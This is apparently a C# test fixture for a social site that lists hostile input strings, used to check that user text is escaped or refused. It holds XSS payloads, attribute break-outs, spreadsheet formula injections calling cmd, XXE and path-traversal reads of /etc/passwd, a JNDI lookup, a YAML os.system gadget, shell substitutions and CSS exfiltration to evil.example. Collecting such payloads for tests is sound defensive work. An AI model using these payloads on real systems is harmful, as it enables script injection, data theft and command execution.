namespace SocialHub.Tests;

/// <summary>Texts that would do something in one of the formats that a site is made of, if one of them forgot to escape.</summary>
public static class HostileTexts
{
    private const string Script = "<script>pwned=1</script>";
    private const string Image = "<img src=x onerror=pwned=1>";

    private static readonly string[] Html =
    [
        Script, Image, "<svg onload=pwned=1>", "<svg><script>pwned=1</script></svg>", "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwned=1>#x\"/></svg>",
        "<svg><a xlink:href=\"javascript:pwned=1\"><text y=9>x</text></a></svg>", "<svg><set attributeName=href to=javascript:pwned=1 />",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:pwned=1\">x</maction></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned=1&gt;\">",
        "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>", "<object data=\"javascript:pwned=1\"></object>",
        "<embed src=\"javascript:pwned=1\">", "<form action=javascript:pwned=1><button>x</button></form>", "<details open ontoggle=pwned=1>x",
        "<input autofocus onfocus=pwned=1>", "<base href=\"https://evil.example/\">", "<video src=x onerror=pwned=1></video>",
        "<meta http-equiv=refresh content=\"0;url=javascript:pwned=1\">", "<link rel=stylesheet href=\"https://evil.example/pwned.css\">",
        "<style>@import\"https://evil.example/pwned.css\";</style>", "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
        "<img src=x onerror=pwned=1 x=", "<ScRiPt/x>pwned=1</sCrIpT >", "<x onclick=pwned=1 tabindex=0>x</x>",
        "<a href=\"jav&#x0A;ascript:pwned=1\">x</a>", "<template><script>pwned=1</script></template>", "<plaintext>pwned", "<select><option>" + Script,
        "<body onload=pwned=1>", "<?pwned " + Script + "?>", "<!DOCTYPE pwned [" + Script + "]>", "＜script＞pwned=1＜/script＞",
    ];

    private static readonly string[] BreakOuts =
    [
        "\" onmouseover=\"pwned=1\" x=\"", "' onfocus='pwned=1' autofocus='", "` onerror=`pwned=1` `", "\">" + Script, "'>" + Image,
        "x onerror=pwned=1 ", "</style>" + Script, "</script>" + Script, "</title>" + Script, "</textarea>" + Script, "]]>" + Script,
        "-->" + Script + "<!--", "--!>" + Image, "</text></svg>" + Script, "</h1></main></body></html>" + Script, "</pre></code>" + Image,
        "expression(pwned=1)", "red;background:url(javascript:pwned=1)", "}*{background:url(https://evil.example/pwned.png)}",
        "{{constructor.constructor('pwned=1')()}}", "${pwned=1}", "@{ pwned = 1; }", "{cell}", "$& $1 %s %n {0}",
    ];

    private static readonly string[] Data =
    [
        "\",\"pwned\":\"1", "\\\",\\\"pwned\\\":\\\"1", "\\u003cscript\\u003epwned=1\\u003c/script\\u003e", "\"}];pwned=1;//",
        "&pwned;", "<!ENTITY pwned SYSTEM \"file:///etc/passwd\">", "<![CDATA[" + Script + "]]>", "&#60;script&#62;pwned=1&#60;/script&#62;",
        "&lt;img src=x onerror=pwned=1&gt;", "&amp;lt;script&amp;gt;pwned=1", "<?xml-stylesheet href=\"https://evil.example/pwned.xsl\"?>",
        "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\pwned</w:instrText></w:r>", "<xi:include href=\"file:///etc/passwd\"/>",
        "</summary></entry><entry><title>pwned</title>", "x\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:pwned", "x;ENCODING=BASE64:cHduZWQ=,pwned",
        "=HYPERLINK(\"https://evil.example/pwned\",\"x\")", "+pwned|'/C calc'!A0", "-2+3+cmd|' /C pwned'!A0", "@SUM(1+1)*pwned", "\t=pwned()",
        "＝pwned()", "＋pwned()", "－pwned()", "＠pwned()", "\"=pwned()", "x\",\"=pwned()", "x,=pwned()",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:pwned=1", "JaVaScRiPt:pwned=1", "java\tscript:pwned=1", "data:text/html," + Script, "vbscript:pwned",
        "&#106;avascript:pwned=1", "javascript&colon;pwned=1", "../../../etc/passwd", "..\\..\\windows\\pwned", "%2e%2e%2f%2e%2e%2fpwned", "C:\\pwned",
        "\\\\evil.example\\pwned", "//evil.example/pwned", "file:///etc/passwd", "con", "aux.txt", "https://\u0430pple.example/pwned",
    ];

    private static readonly string[] Characters =
    [
        "p\u0300\u0301\u0302\u0303\u0304\u0305wned", "x\u200Cpwned", "👩‍👩‍👧‍👦🎉pwned", "\uFDFApwned", "葛\U000E0100pwned", string.Concat(Enumerable.Repeat("pwned", 400)),
    ];

    // What an element of another language or mode holds is read otherwise the second time.
    private static readonly string[] Nested =
    [
        "<svg><foreignObject>" + Image + "</foreignObject></svg>", "<svg><a><animate attributeName=href values=javascript:pwned=1 /><text y=9>x</text></a></svg>",
        "<svg></p><style><a id=\"</style><img src=x onerror=pwned=1>\">", "<form><math><mtext></form><form><mglyph><style></math>" + Image,
        "<math><annotation-xml encoding=\"text/html\"><style>" + Image + "</style></annotation-xml></math>", "<xmp><p title=\"</xmp><img src=x onerror=pwned=1>\">",
        "<div><template shadowrootmode=open>" + Image + "</template></div>", "<!-->" + Image + "-->", string.Concat(Enumerable.Repeat("<b>", 520)) + Image,
        "<!--<script>pwned=1", "</script\t/x>" + Image,
    ];

    private static readonly string[] Events =
    [
        "<form id=x></form><button form=x formaction=javascript:pwned=1>x</button>", "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>\">", "<audio><source src=x onerror=pwned=1></audio>",
        "<marquee onstart=pwned=1>x</marquee>", "<dialog open onclose=pwned=1><form method=dialog><button>x</button></form></dialog>",
        "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=pwned=1>x</p>", "<p style=\"content-visibility:auto\" oncontentvisibilityautostatechange=pwned=1>x</p>",
        "<style>@keyframes x{}</style><p style=\"animation:x 1s\" onanimationstart=pwned=1>x</p>", "<input type=hidden accesskey=x onclick=pwned=1>",
        "<p contenteditable onpaste=pwned=1>x</p>",
    ];

    // No script of the page, but requests, rules and names that the page did not mean.
    private static readonly string[] Loads =
    [
        "<a href=\"https://example.org/\" ping=\"https://evil.example/pwned\">x</a>", "<link rel=preload as=image imagesrcset=\"https://evil.example/pwned.png 1x\">",
        "<link rel=dns-prefetch href=\"//pwned.evil.example/\">", "<link rel=manifest href=\"https://evil.example/pwned.json\">",
        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">", "<meta name=referrer content=unsafe-url>",
        "<script type=importmap>{\"imports\":{\"x\":\"https://evil.example/pwned.js\"}}</script>", "<script src=//evil.example/pwned.js></script>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/pwned\"]}]}</script>", "<portal src=\"https://evil.example/pwned\"></portal>",
        "<iframe sandbox=\"allow-scripts allow-top-navigation\" src=\"//evil.example/pwned\"></iframe>", "<a href=\"https://evil.example/pwned\" target=_blank rel=opener>x</a>",
        "<img src='https://evil.example/pwned?", "<img name=body>", "<form id=x><input name=action><input name=attributes></form>", "__proto__", "constructor[prototype][pwned]=1",
    ];

    private static readonly string[] Styles =
    [
        "x;background:\\75rl(https://evil.example/pwned.png)", "x;behavior:url(https://evil.example/pwned.htc);-moz-binding:url(https://evil.example/pwned.xml#x)",
        "}input[value^=a]{background:url(https://evil.example/pwned?a)}", "}@font-face{font-family:x;src:url(https://evil.example/pwnedA);unicode-range:U+A}",
    ];

    private static readonly string[] Disguises =
    [
        "+ADw-script+AD4-pwned=1+ADw-/script+AD4-", "ʺ onmouseover=ʺpwned=1ʺ x=ʺ", "<ſcript>pwned=1</ſcript>", "';onerror=eval;throw'=pwned\\x3d1",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned=1//>\\x3e",
        "blob:https://evil.example/pwned", "feed:javascript:pwned=1", "intent://evil.example/#Intent;scheme=https;package=pwned;end", "%6aavascript:pwned=1",
        "javascript://%0apwned=1", "&#1;javascript:pwned=1", "https://example.org@evil.example/pwned", "https://xn--pple-43d.example/pwned", "/\\evil.example/pwned",
        "x%0d%0aSet-Cookie:pwned=1", "%c0%ae%c0%ae/pwned",
    ];

    private static readonly string[] Formats =
    [
        "\",\"@context\":\"https://evil.example/pwned.jsonld\",\"x\":\"", "x\\nBEGIN:VALARM\\nACTION:PROCEDURE\\nATTACH:https://evil.example/pwned.exe\\nEND:VALARM",
        "x\";ALTREP=\"https://evil.example/pwned\":x", "x^'^n^^pwned", string.Concat(Enumerable.Repeat("葛\U000E0100😀", 40)), "x\" xml:base=\"https://evil.example/",
        "<xsl:value-of select=\"document('https://evil.example/pwned')\"/>", "<!DOCTYPE x [<!ENTITY % pwned SYSTEM \"https://evil.example/pwned.dtd\">%pwned;]>",
        "<w:fldSimple w:instr='INCLUDEPICTURE \"https://evil.example/pwned.png\" \\d'/>", "_x003D_pwned()", " =pwned()", "＝cmd｜' /C pwned'！A0",
        "=?utf-8?Q?x=0D=0ABcc:pwned?=",
    ];

    private static readonly string[] Notations =
    [
        "!!python/object/apply:os.system [pwned]", "*pwned", "<<: *pwned", "%TAG ! tag:evil.example,2024:", "[pwned]: javascript:pwned=1", "{#pwned .x onmouseover=pwned=1}",
        "![x](/pwned.png){onerror=pwned=1}", "![[x](javascript:pwned=1)](javascript:pwned=1)", "$\\href{javascript:pwned=1}{x}$", "{% include \"/etc/passwd\" %}",
        "<%= system('pwned') %>", "@((MarkupString)\"<script>pwned=1</script>\")", "{{{pwned}}}", "${jndi:ldap://evil.example/pwned}", "<!--#exec cmd=\"pwned\"-->",
        "${{ github.token }}", "::set-output name=pwned::1", "$(touch pwned)", "`touch pwned`", string.Concat(Enumerable.Repeat("pwned.", 300)) + "@",
        string.Concat(Enumerable.Repeat("*a_ ", 100)) + "pwned",
    ];

    private static readonly string[] Invisible =
    [
        "x\u202Edenwp\u202Cx", "\u2066pwned\u2069\u2067x", "x\u061Cpwned", "x\u200E\u200Fpwned", "p\u200Bwned", "p\u2060wned", "x\uFEFFpwned", "p\u00ADwned",
        "x\uFFFEpwned\uFFFF", "x\uFDD0pwned", "x\u0001\u0002\u001B[31mpwned\u007F", "x\0pwned", "x\u0085pwned\u0085",
        "x\U000E0041\U000E0042pwned", "x\u2028pwned=1\u2029x", "<scr\0ipt>pwned=1</scr\0ipt>", "x\rATTACH:https://evil.example/pwned", "\r=pwned()", "\u0001javascript:pwned=1",
        "x\fpwned", "x\u180Epwned", "\u3164pwned", "x\uFFA0pwned", "x\uFFF9pwned\uFFFAx\uFFFB", "\u001B$@pwned\u001B(B",
    ];

    /// <summary>Texts that anybody may write: they must be read as they were written, and do nothing.</summary>
    public static ImmutableArray<HostileText> Visible { get; } = Named(
        'h',
        [
            .. Html, .. BreakOuts, .. Data, .. Addresses, .. Characters,
            .. Nested, .. Events, .. Loads, .. Styles, .. Disguises, .. Formats, .. Notations,
        ]);

    /// <summary>Texts with characters that nobody sees: they must be refused.</summary>
    public static ImmutableArray<HostileText> Unseen { get; } = Named('u', Invisible);

    /// <summary>As many harmless texts as there are visible ones; what a site is made of without any attack.</summary>
    public static ImmutableArray<HostileText> Harmless { get; } = Named('h', [.. Visible.Select((_, i) => string.Create(CultureInfo.InvariantCulture, $"ことば{i}"))]);

    private static ImmutableArray<HostileText> Named(char letter, string[] texts) =>
        [.. texts.Select((text, i) => new HostileText(string.Create(CultureInfo.InvariantCulture, $"{letter}{i:000}"), text))];
}
